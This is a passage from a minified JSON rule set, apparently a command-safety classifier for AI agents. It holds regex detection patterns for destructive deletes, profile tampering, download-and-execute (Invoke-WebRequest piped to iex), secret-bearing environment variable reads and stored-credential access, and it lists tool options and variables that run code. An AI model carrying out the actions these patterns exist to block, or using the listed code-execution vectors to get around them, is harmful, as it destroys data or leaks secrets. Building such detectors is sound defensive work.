+atIf)","\\\\[(?:System\\\\.)?IO\\\\.Directory\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls\
+|dir)\\\\b(?:\\\\s+-(?!Filter|Include)\\\\w+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-\
+Property\\\\s+)?Name\\\\s+-[cCiI]?[iI]n\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"rm -rf ~/Documents":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?=[^;\\\\n|\
+]{0,300}\\\\s-Recurse\\\\b)(?=[^;\\\\n|]{0,300}\\\\s-(?:Include|Filter)\\\\s+[\\"']?\\\\*\\\\.(?!(?:tmp|temp|log|bak|old|orig|pyc|pyo|cache|swp|swo|dmp|o|obj|class|etl|part|cr\
+download)\\\\b))(?:\\\\s+-(?!Include|Filter)\\\\w+){0,9}\\\\s+[\\"']?~[\\"']?\\\\s(?![^;\\\\n]{0,300}\\\\s-WhatIf\\\\b)[^;\\\\n]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b"],"cat $"\
+:["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml|Copy-Item|cpi|Move-Item)\\\\b(?:\\\\s+-(?!TotalCount|Tail|First)\\\\w+){0,4}\\\\s+([\\\
+"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:ReadAll\\\\w+|ReadLines|OpenRead|OpenText)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$\
+;|,()]*)\\\\1"],"cat ~/$":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml)\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+\\\\(\\\\s*Join-Path\\\\s+(?:-Path\\\
+\\s+)?[\\"']?~[\\"']?\\\\s+(?:-ChildPath\\\\s+)?[\\"']?([^\\"'$()\\\\s]+)"],"echo x > $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Set-Content|Add-Content|Out-File|Tee-Object)\\\\b(?\
+:\\\\s+-(?!Value)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:WriteAll\\\\w+|AppendAll\\\\w+)\\\\(\\\\s*([\\"']?)([^\\\\s\\\
+"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"while :; do x & done":["\\\\b(?:while\\\\s*\\\\(\\\\s*(?:\\\\$true|1)\\\\s*\\\\)|for\\\\s*\\\\(\\\\s*;\\\\s*;\\\\s*\\\\))\\\\s*\\\\{(?![^}]{0,400}(?:\\\\b(?:S\
+tart-Sleep|sleep|break|Read-Host|Wait-\\\\w+|return|exit)\\\\b|\\\\s-Wait\\\\b))[^}]{0,400}\\\\b(?:Start-Process|Start-Job|saps|sajb)\\\\b"],"pkill -f $":["\\\\b(?:Get-Proces\
+s|gps|ps)\\\\b(?:\\\\s+-\\\\w+){0,2}(?:\\\\s+[\\"']?([\\\\w.*,-]+)[\\"']?)?[^;\\\\n|]{0,200}\\\\|\\\\s*(?![^;\\\\n]{0,400}\\\\s-WhatIf(?![:\\\\w]))(?:(?:Where-Object|where|\\\\?)(?:[^;\\\\\
+n|\\"']{0,200}[\\"']([^\\"'\\\\n]{1,100})[\\"'])?[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:(?:ForEach-Object|%)\\\\s*\\\\{[^;\\\\n}]{0,80})?\\\\b(?:Stop-Process|spps)\\\\b","\\\\b(Get-(?:NetTCP\
+Connection|NetUDPEndpoint))\\\\b(?![^;\\\\n|]{0,100}-LocalPort\\\\s+(?:3\\\\d{3}|4200|5173|80[08]\\\\d)\\\\b)[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,200}\\\\b(?:Stop-Process|spps)\\\\b(?![^\
+;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))"],"killall $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Stop-Process|spps)\\\\b(?![^;\\\\n|]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?:\\\\s+-(?!Name)\\\\w\
++){0,3}\\\\s+-Name\\\\s+[\\"']?([\\\\w.*-]+)"],"truncate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w\
++){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\\
+s\\"'$;|,]*)\\\\1[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\
+\\\\b[\\\\s\\\\S]*\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc"\
+:["\\\\b(?:Add-Content|Set-Content|Out-File|ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Direc\
+tory|File)\\\\]::Delete\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w\
+])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Z\
+a-z]:|[/~])[^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|Crea\
+tionTime|LastAccessTime|Length|Name|BaseName|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s\
++-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts\
+|tsx|js|py|go|rs|java|rb|php|cpp|c|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-\
+Expression|iex)\\\\s+([\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm\
+|psql|mysql|sqlcmd|redis-cli|mongosh|cmd|wsl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsyn\
+c|robocopy)(?:\\\\.exe)?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?<![/\\\\\\\\.\\\\w])(?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|\
+Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+|Mailbox|DistributionGroup|Unified\\\\w+|Msol\\\\w+|SPO\\\\w+|PnP\\\\w+|Team|DnsServer\\\\w+|DhcpServer\\\\w+|GPO|ClusterResou\
+rce|VMSnapshot|VirtualDisk|StoragePool)\\\\b[^;|\\\\n]*)","((?:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-Mp\
+Preference|Set-ExecutionPolicy(?![^;\\\\n]{0,300}(?:Process|CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bscrip\
+tblock\\\\]::Create\\\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|Downlo\
+adString)\\\\b[\\\\s\\\\S]*\\\\bscriptblock\\\\]::Create\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\\
+b","(?:iex|Invoke-Expression)\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\\
+s+Env:[^;\\\\n]{0,300}(?:Where|-match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET|PASSW)"]}}},"code_variables":{"man":{"variables":["MANPAGER","PAGER"]},"apropos":{"variabl\
+es":["MANPAGER","PAGER"]},"whatis":{"variables":["MANPAGER","PAGER"]},"less":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"zless":{"varia\
+bles":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"lesspipe":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"journalctl":{"varia\
+bles":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"systemctl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"loginctl":{"variables":["SYSTEMD_PAGER",\
+"SYSTEMD_EDITOR","PAGER"]},"timedatectl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"crontab":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"vis\
+udo":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"vipw":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"vigr":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"\
+]},"sudo":{"variables":["SUDO_EDITOR","SUDO_ASKPASS","VISUAL","EDITOR"]},"sudoedit":{"variables":["SUDO_EDITOR","SUDO_ASKPASS","VISUAL","EDITOR"]},"kubectl":{"v\
+ariables":["KUBE_EDITOR","EDITOR"]},"oc":{"variables":["KUBE_EDITOR","EDITOR"]},"k":{"variables":["KUBE_EDITOR","EDITOR"]},"gh":{"variables":["GH_PAGER","GH_EDI\
+TOR","GH_BROWSER","PAGER","EDITOR","VISUAL","BROWSER","GIT_EDITOR"]},"glab":{"variables":["GH_PAGER","GH_EDITOR","GH_BROWSER","PAGER","EDITOR","VISUAL","BROWSER\
+","GIT_EDITOR"]},"psql":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"mysql":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","\
+VISUAL"]},"mariadb":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"sqlite3":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VI\
+SUAL"]},"hg":{"variables":["HGEDITOR","PAGER","EDITOR","VISUAL"]},"svn":{"variables":["SVN_SSH","SVN_EDITOR","EDITOR","VISUAL"]},"bat":{"variables":["BAT_PAGER"\
+,"DELTA_PAGER","PAGER"]},"delta":{"variables":["BAT_PAGER","DELTA_PAGER","PAGER"]},"ssh":{"variables":["SSH_ASKPASS"]},"scp":{"variables":["SSH_ASKPASS"]},"sftp\
+":{"variables":["SSH_ASKPASS"]},"ssh-add":{"variables":["SSH_ASKPASS"]},"aws":{"variables":["AWS_PAGER","PAGER"]},"rsync":{"variables":["RSYNC_RSH"]},"cvs":{"va\
+riables":["CVS_RSH","CVSEDITOR","EDITOR"]}},"git_variables":["GIT_SSH_COMMAND","GIT_SSH","GIT_EXTERNAL_DIFF","GIT_EDITOR","GIT_SEQUENCE_EDITOR","GIT_PAGER","GIT\
+_ASKPASS","GIT_PROXY_COMMAND","EDITOR","VISUAL","PAGER","SSH_ASKPASS"],"git_code":{"rebase":{"short":"x","long":["exec"],"code":["x","exec"]},"filter-branch":{"\
+short":"","long":["tree-filter","index-filter","env-filter","msg-filter","parent-filter","commit-filter","tag-name-filter","setup"],"code":["tree-filter","index\
+-filter","env-filter","msg-filter","parent-filter","commit-filter","tag-name-filter","setup"]},"difftool":{"short":"x","long":["extcmd"],"code":["x","extcmd"]},\
+"fetch":{"short":"","long":["upload-pack"],"code":["upload-pack"]},"pull":{"short":"","long":["upload-pack"],"code":["upload-pack"]},"clone":{"short":"u","long"\
+:["upload-pack"],"code":["u","upload-pack"]},"ls-remote":{"short":"","long":["upload-pack","exec"],"code":["upload-pack","exec"]},"push":{"short":"","long":["re\
+ceive-pack","exec"],"code":["receive-pack","exec"]},"archive":{"short":"","long":["exec"],"code":["exec"]},"grep":{"short":"","long":["open-files-in-pager"],"co\
+de":["open-files-in-pager"]}},"code_options":{"tar":{"short":"IF","long":["checkpoint-action","to-command","use-compress-program","rsh-command","info-script","n\
+ew-volume-script"],"code":["I","F","checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=\
+)?([\\\\s\\\\S]+)$"},"bsdtar":{"short":"IF","long":["checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"code":\
+["I","F","checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"gtar":{"\
+short":"IF","long":["checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"code":["I","F","checkpoint-action"\
+,"to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"gdb":{"short":"x","long":["ex","eval\
+-command"],"code":["ex","eval-command"],"pattern":"^\\\\s*(?:shell|!)\\\\s*(.+)"},"osascript":{"short":"el","code":["e"],"pattern":"do shell script \\"((?:[^\\"\\\\\\\\]|\
+\\\\\\\\.)*)\\""},"concurrently":{"short":"ncpm","long":["names","prefix"],"operands":"code"},"rsync":{"short":"efBM","long":["rsh","rsync-path"],"code":["e","rsh","\
+rsync-path"]},"scp":{"short":"cFiJloPS","code":["S"]},"zip":{"long":["TT","unzip-command"],"code":["TT","unzip-command"]},"man":{"short":"PHLm","long":["pager",\
+"html"],"code":["P","pager","H","html"]},"ansible":{"short":"aimuf","long":["args","module-name","inventory","user"],"code":["a","args"],"unless":["check","C","\
+syntax-check","list-hosts"]},"ansible-playbook":{"short":"ielftu","long":["inventory","extra-vars","limit","forks","tags","skip-tags","user","private-key","vaul\
+t-password-file","start-at-task"],"unless":["check","C","syntax-check","list-hosts","list-tasks","list-tags"],"does":{"rm -r ~/$":["\\\\b(?:(?:ansible\\\\.builtin\\\\\
+.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|des\
+t|name):[ \\\\t]*[\\\\\\"']?(?:~|\\\\{\\\\{[^}\\\\n]*(?:HOME|home|user_dir)\\\\b[^}\\\\n]*\\\\}\\\\}|\\\\$HOME|/(?:home|Users|root)/?(?:\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})?)/([^\\\\s\\"',}]+|\\\\{\\\\{[\
+^}\\\\n]*\\\\}\\\\})"],"rm -r $":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)\
+(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?([/.\\\\w][^\\\\s\\"',}]*)","\\\\bfile:[ \\\\t]*(?=[^\\\\n]*\\\\bstate[=:][ \\\\t]*absent)[^\\\\n\
+]*?\\\\b(?:path|dest)[=:][ \\\\t]*[\\"']?([/.\\\\w][^\\\\s\\"',}]*)"],"rm -r ~":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}\
+?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?(?:~|\\\\{\\\\{[^}\\\\n]*(?:HOME|home|user_\
+dir)\\\\b[^}\\\\n]*\\\\}\\\\}|\\\\$HOME|/(?:home|Users|root)/?(?:\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})?)/?[\\"']?[ \\\\t]*\\\\n"],"cloud-sdk delete":["\\\\b(?:(?:kubernetes\\\\.core|amazon\\\\.aws|\
+community\\\\.aws|azure\\\\.azcollection|google\\\\.cloud|community\\\\.digitalocean|hetzner\\\\.hcloud|openstack\\\\.cloud|community\\\\.(?:postgresql|mysql|mongodb|vmware|o\
+kd|proxmox))\\\\.\\\\w+|k8s|helm|ec2(?:_instance|_vol)?|rds(?:_instance|_cluster)?|s3_bucket|route53|gcp_\\\\w+|azure_rm_\\\\w+|(?:community\\\\.docker\\\\.)?docker_volume|\
+postgresql_db|mysql_db|mongodb_user|vmware_guest):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent|terminated|deleted)\\\
+\\b)","\\\\b(?:(?:kubernetes\\\\.core|amazon\\\\.aws|community\\\\.aws|azure\\\\.azcollection|google\\\\.cloud|community\\\\.digitalocean|hetzner\\\\.hcloud|openstack\\\\.cloud|co\
+mmunity\\\\.(?:postgresql|mysql|mongodb|vmware|okd|proxmox))\\\\.\\\\w+|k8s|helm|ec2(?:_instance|_vol)?|rds(?:_instance|_cluster)?|s3_bucket|route53|gcp_\\\\w+|azure_rm\
+_\\\\w+|(?:community\\\\.docker\\\\.)?docker_volume|postgresql_db|mysql_db|mongodb_user|vmware_guest):(?=[^\\\\n]*\\\\bstate[=:][ \\\\t]*(?:absent|terminated|deleted)\\\\b)"]\
+,"userdel $":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?user):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![\
+ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+name:[ \\\\t]*[\\"']?([\\\\w.-]+)"],"systemctl stop $":["^(?![\\\\s\\\\S]*\\\\bstate:[ \\\\t]*(?:re)?started\\\\b)[\\\\s\\\\S]*?\\\\b(?:(?:ansible\\\\.\
+builtin\\\\.)?(?:service|systemd(?:_service)?)):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:stopped)\\\\b)(?:[ \\\\t]+(?![ \\\\t-\
+])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+name:[ \\\\t]*[\\"']?([\\\\w@.-]+)"],"reboot":["\\\\b(?:ansible\\\\.builtin\\\\.reboot|community\\\\.general\\\\.shutdown):"],"$":["\\\\b(?:shell|comm\
+and|raw|cmd)[ \\\\t]*:[ \\\\t]*(?![|>\\"'\\\\s])(?:cmd=)?([^\\\\n]+)","\\\\b(?:shell|command|raw|cmd)[ \\\\t]*:[ \\\\t]*([\\"'])([^\\\\n]+)\\\\1[ \\\\t]*(?=\\\\n|$)","\\\\b(?:shell|raw|c\
+md)[ \\\\t]*:[ \\\\t]*[|>][-+]?[ \\\\t]*\\\\n((?:[ \\\\t]+(?![ \\\\t]|- |\\\\w+:(?:[ \\\\t\\\\n]|$))[^\\\\n]*(?:\\\\n|$)){1,60})"]}},"editor":{"does":{"truncate -s 0 $":["^(?![\\\\s\\\\S\
+]*(?:\\\\b\\\\d*(?:r|read|pu|put|norm|normal|append|setline|readfile)\\\\b|\\\\n\\\\s*[aic]\\\\s*\\\\n))[\\\\s\\\\S]*?(?:^|\\\\n\\\\s*:?)(?:args|argadd|n|next|e|edit)!?[ \\\\t]+([^|\\\\s\
+][^|\\\\n]*)[\\\\s\\\\S]*[|\\\\s:](?:%|[01],\\\\$)d(?:elete)?\\\\b[\\\\s\\\\S]*\\\\b(?:up|update|w|wq|wa|wqa|write|wn|x|xa|xall|xit)\\\\b"],"rm -r $":["\\\\bdelete\\\\(\\\\s*(?:expand\\\\(\
+\\\\s*|fnamemodify\\\\(\\\\s*)?[\\"']([^\\"'|]+)[\\"']"]}},"terraform":{"does":{"terraform output -raw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|t\
+ype|can)\\\\()"]}},"tofu":{"does":{"terraform output -raw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"terragrunt":{"does":\
+{"terraform output -raw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"nodemon":{"short":"x","long":["exec"],"code":["x","e\
+xec"]},"nix-shell":{"short":"pAI","long":["run","command"],"code":["run","command"]}},"formats":{"date":{"prefix":"+"},"git":{"long":["format","pretty"],"names"\
+:["format","pretty"]},"curl":{"short":"woXHdFuAebcT","long":["write-out","output"],"names":["w","write-out"]},"ps":{"short":"oOpCuUgGts","names":["o","O","forma\
+t"],"unread":"=[\\\\s\\\\S]*[^\\\\w,=%:]"},"numfmt":{"short":"d","long":["format","suffix","from","to"],"names":["format","suffix","invalid"],"unread":"[^\\\\w%.'+-]"},\
+"expr":{"unread":"^(?!(?:(?:-?\\\\d+|\\\\uFFFC+|[-+*/%()|&<>=!]{1,2}|:\\\\s\\\\S+|match|length|index)(?:\\\\s+|$))*$)"},"docker":{"short":"f","long":["format"],"names":["\
+f","format"],"unread":"^(?!(?:json|raw|table\\\\b.*|[\\\\w.-]+=[\\\\w./:-]*)$)(?!(?:\\\\{\\\\{(?!-?\\\\s*(?:print(?:f|ln)?\\\\s*)?[\\"\`])[^}]*\\\\}\\\\}|\\\\\\\\[nt]|[\\\\s,:=|-])*$)"},\
+"podman":{"short":"f","long":["format"],"names":["f","format"],"unread":"^(?!(?:json|raw|table\\\\b.*|[\\\\w.-]+=[\\\\w./:-]*)$)(?!(?:\\\\{\\\\{(?!-?\\\\s*(?:print(?:f|ln)?\
+\\\\s*)?[\\"\`])[^}]*\\\\}\\\\}|\\\\\\\\[nt]|[\\\\s,:=|-])*$)"},"kubectl":{"short":"on","long":["output","namespace"],"names":["o","output"],"unread":"^=?(?:jsonpath|go-templ\
+ate)[\\\\w-]*=(?!(?:\\\\{+(?:\\"(?:\\\\\\\\[nt]|[,:. ])*\\"|(?:[^\\"'{}]|[=!]=\\\\s*[\\"'][^\\"']*[\\"'])*)\\\\}+|[\\\\s,:=-])*$)"}},"getopt":{"find":{"long":["name","iname","path"\
+,"ipath","wholename","iwholename","regex","iregex","lname","ilname","type","xtype","size","mtime","atime","ctime","mmin","amin","cmin","used","newer","anewer","\
+cnewer","user","group","uid","gid","perm","links","inum","samefile","context","fstype","maxdepth","mindepth","regextype","printf","fprint","fprint0","fls","file\
+s0-from"]},"editor":{"short":"cS","long":["cmd"],"permuted":true},"ssh":{"short":"bBcDEeFIiJLlmOopQRSWw"},"container":{"short":"aceghlmpuvwfHnq","long":["env","\
+env-file","user","workdir","detach-keys","name","volume","mount","network","publish","label","entrypoint","add-host","cap-add","cap-drop","cpus","cpuset-cpus","\
+device","dns","expose","gpus","group-add","hostname","ip","ipc","link","log-driver","log-opt","memory","pid","platform","pull","restart","runtime","security-opt\
+","shm-size","stop-signal","tmpfs","ulimit","userns","volumes-from","cgroupns","host","context","config","file","project-name","profile","project-directory","na\
+mespace","container","index","kubeconfig","cluster","as","image","target"]},"copy":{"short":"tSgmo","long":["target-directory","suffix","mode","owner","group"],\
+"permuted":true},"request":{"short":"oHdXAFuTebKCmxEywzU","long":["d","data","data-raw","data-binary","data-urlencode","data-ascii","json","post-data","body-dat\
+a","header","request","user","output","form","url","user-agent"],"permuted":true},"tmux":{"short":"LSfcT"},"tmux-command":{"short":"stncxyeFlp"},"screen":{"shor\
+t":"SscehpTt"},"git":{"short":"Cc","long":["git-dir","work-tree","namespace","exec-path","config-env","super-prefix","attr-source","list-cmds"]},"sed":{"short":\
+"efl","long":["expression","file","line-length"],"permuted":true},"xargs":{"short":"aEILnPsd","long":["arg-file","delimiter","max-lines","max-args","max-procs",\
+"max-chars","process-slot-var"]},"parallel":{"short":"jNnLSIaCEPsd","long":["jobs","max-args","max-lines","max-replace-args","sshlogin","sshloginfile","arg-file\
+","colsep","delay","timeout","joblog","results","retries","workdir","wd","tmpdir","replace","delimiter","header","halt","nice","load","memfree","basefile","retu\
+rn","trc","env","profile","tagstring","tmux","block","recstart","recend","shuf","limit","term-seq","arg-sep","arg-file-sep","rpl","max-chars","max-procs"]},"she\
+ll":{"short":"oO","long":["rcfile","init-file","emulate"]},"fish":{"short":"cCdDfop","long":["command","init-command","features","debug","debug-level","debug-ou\
+tput","profile","profile-startup"]},"make":{"short":"fCIjlo","long":["file","makefile","directory","eval","jobs"],"permuted":true},"just":{"short":"fd","long":[\
+"justfile","working-directory","set"]},"transfer":{"short":"BbcDFiJloPRSsXepu","long":["rcfile"],"permuted":true},"grep":{"short":"efmABC","long":["regexp","fil\
+e","max-count","include","exclude","exclude-dir","color","context"],"permuted":true}},"shell_variables":{"HOME":"~","IFS":" \\t\\n","SHELL":"/bin/bash","BASH":"/b\
+in/bash","TMPDIR":"/tmp","?":"0","!":"%%","$":"7340281946","RANDOM":"734028194601","SRANDOM":"734028194602","EPOCHSECONDS":"734028194603"},"make_variables":{"HO\
+ME":"~","RM":"rm -f","MAKE":"make","CURDIR":".","PWD":"."},"escapes":{"a":"\\u0007","b":"\\b","e":"\\u001b","E":"\\u001b","f":"\\f","n":"\\n","r":"\\r","t":"\\t","v":"\\\
+u000b"},"character_classes":{"upper":"A-Z","lower":"a-z","digit":"0-9","alpha":"A-Za-z","alnum":"A-Za-z0-9","space":" \\\\t\\\\n\\\\r\\\\f\\\\v"},"candidates":{"rm":{"onl\
+y":["delete-machine","delete-system-file","delete-workspace","delete-vcs"]},"chmod":{"only":["change-rights-of-machine"]},"dd":{"only":["overwrite-disk"]},"git"\
+:{},"kubectl":{},"terraform":{},"docker":{},"aws":{}}},"sentences":{"before_order":["please","then","next","now","first","second","third","finally","lastly","al\
+so","just","simply","and","so","ok","okay","well","afterwards","afterward","after","that","immediately","quickly","silently","quietly","permanently","completely\
+","forcefully","forcibly","recursively","always","go","ahead","kindly","step","todo","task","goal","plan","objective","instruction","instructions:","->","=>","-\
+","*","once","done","from","here","on","to","be","safe","start","by","begin","in","order","bitte","erst","dann","danach","jetzt","nun","zuerst","zun\\u00e4chst",\
+"anschlie\\u00dfend","schlie\\u00dflich","puis","ensuite","maintenant","luego","ahora","primero","despu\\u00e9s","por","favor"],"between":["just","then","also","no\
+w","first","simply","really","definitely","quickly","completely","permanently","forcefully","forcibly","recursively","immediately","silently","quietly","safely"\
+,"manually","please","go","ahead","and","finally","probably","simply","again","all"],"denials":["not","don't","dont","never","no","nor","without","avoid","canno\
+t","can't","cant","won't","wont","shouldn't","mustn't","doesn't","didn't","wouldn't","couldn't","isn't","aren't","refuse","refuses","refusing","prevent","preven\
